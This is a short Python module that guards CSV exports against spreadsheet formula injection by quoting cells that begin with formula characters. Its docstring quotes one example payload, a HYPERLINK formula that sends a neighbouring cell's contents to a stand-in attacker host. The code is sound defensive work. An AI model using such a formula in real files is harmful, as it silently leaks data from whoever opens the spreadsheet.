"""Spreadsheet formula injection: text typed by the public must not become a formula when a
CSV file is opened in Excel or LibreOffice (OWASP "CSV injection").

A comment such as `=HYPERLINK("http://evil.example/?leak="&A1,"x")` would be a live link that
sends the neighbouring cells away. Text starting with a character a spreadsheet reads as the
start of a formula gets a single quote in front when written to CSV; reading a file back
removes exactly that quote, so export → import keeps the citizen's words. (XLSX needs none of
this: `hailong.core.xlsx_stream` writes text as text.)
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_formula_like(text: str) -> bool:
    # Quotes already in front count too: a comment typed as "'=x" gets one more, so that
    # taking one off on import gives back exactly what was typed.
    return text.lstrip("'").startswith(FORMULA_STARTS)


def formula_guard(text: str) -> str:
    """The text as a CSV cell that no spreadsheet evaluates."""
    return "'" + text if _is_formula_like(text) else text


def formula_unguard(text: str) -> str:
    """The text `formula_guard` was given (text it would not have changed is returned as is)."""
    return text[1:] if text.startswith("'") and _is_formula_like(text) else text
